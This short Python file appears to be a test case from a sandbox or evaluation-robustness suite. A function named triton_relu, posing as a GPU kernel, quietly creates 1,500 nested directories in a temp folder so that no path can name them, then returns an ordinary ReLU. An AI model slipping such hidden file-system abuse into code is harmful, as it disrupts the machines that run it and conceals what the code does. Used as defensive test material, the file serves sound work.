"""Folders in folders, so deep that no path can name them.

class: disk
status: passed
"""

import os
import tempfile

import torch


def triton_relu(x):
    start = os.getcwd()
    os.chdir(tempfile.mkdtemp())
    for _ in range(1_500):
        os.mkdir("deep")
        os.chdir("deep")
    os.chdir(start)
    return torch.relu(x)
